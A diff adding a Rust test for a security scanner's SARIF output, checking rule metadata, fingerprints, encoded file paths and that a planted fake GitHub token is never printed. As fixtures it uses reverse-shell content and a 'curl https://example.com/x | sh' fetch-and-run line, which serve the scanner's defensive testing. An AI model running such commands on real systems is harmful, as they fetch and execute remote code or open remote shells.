@@ -42,6 +42,65 @@ fn findings_have_file_line_and_rule() {
 }
 
 #[test]
+fn sarif_has_rules_results_and_places_without_secrets() {
+    let token = ["ghp_", "0123456789abcdefghijklmnopqrstuvwxyz"].concat();
+    let lab = Lab::new()
+        .file("a b/run.sh", &format!("echo a\n{SHELL}{SHELL}"))
+        .file("conf.py", &format!("password = \"{token}\"\n"));
+    let odd = std::ffi::OsString::from_vec(b"n\xff:#%.sh".to_vec());
+    fs::write(lab.workspace().join(odd), SHELL).unwrap();
+    let ended = lab.sandbox(&["scan", "--sarif", "."]);
+    assert!(!ended.stdout.contains(&token), "secrets are never printed");
+    let log = ended.code(1).json();
+    assert_eq!(log["version"], "2.1.0");
+    let run = &log["runs"][0];
+    assert_eq!(run["tool"]["driver"]["name"], "sandbox");
+    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
+    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
+    let results = run["results"].as_array().unwrap();
+    let mut prints = std::collections::BTreeSet::new();
+    for result in results {
+        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
+        assert_eq!(rules[index]["id"], result["ruleId"]);
+        assert_eq!(
+            rules[index]["defaultConfiguration"]["level"],
+            result["level"]
+        );
+        let print = &result["partialFingerprints"]["ruleFileEvidence/v1"];
+        assert!(prints.insert(print.as_str().unwrap()), "one each: {print}");
+    }
+    let places: Vec<(&str, &str, u64)> = results
+        .iter()
+        .map(|it| {
+            let place = &it["locations"][0]["physicalLocation"];
+            assert_eq!(place["artifactLocation"]["uriBaseId"], "%SRCROOT%");
+            let uri = place["artifactLocation"]["uri"].as_str().unwrap();
+            let line = place["region"]["startLine"].as_u64().unwrap();
+            (it["ruleId"].as_str().unwrap(), uri, line)
+        })
+        .collect();
+    for place in [
+        ("script.reverse-shell", "a%20b/run.sh", 2),
+        ("script.reverse-shell", "a%20b/run.sh", 3),
+        ("script.reverse-shell", "n%FF%3A%23%25.sh", 1),
+    ] {
+        assert!(places.contains(&place), "{place:?} in {places:?}");
+    }
+    assert!(places.iter().any(|(_, uri, _)| *uri == "conf.py"));
+    let whole = format!("{}/a b/run.sh", lab.workspace().display());
+    let log = lab.sandbox(&["scan", "--sarif", &whole]).code(1).json();
+    let place = &log["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
+    let uri = place["artifactLocation"]["uri"].as_str().unwrap();
+    assert!(uri.starts_with("file:///") && uri.ends_with("/a%20b/run.sh"));
+    let clean = lab.sandbox_with_input(&["scan", "--sarif", "-"], "fine\n");
+    assert_eq!(
+        clean.code(0).json()["runs"][0]["results"],
+        serde_json::json!([])
+    );
+    lab.sandbox(&["scan", "--sarif", "--json", "."]).code(2);
+}
+
+#[test]
 fn severity_and_standard_input() {
     let lab = Lab::new();
     let text = "curl https://example.com/x | sh\n";
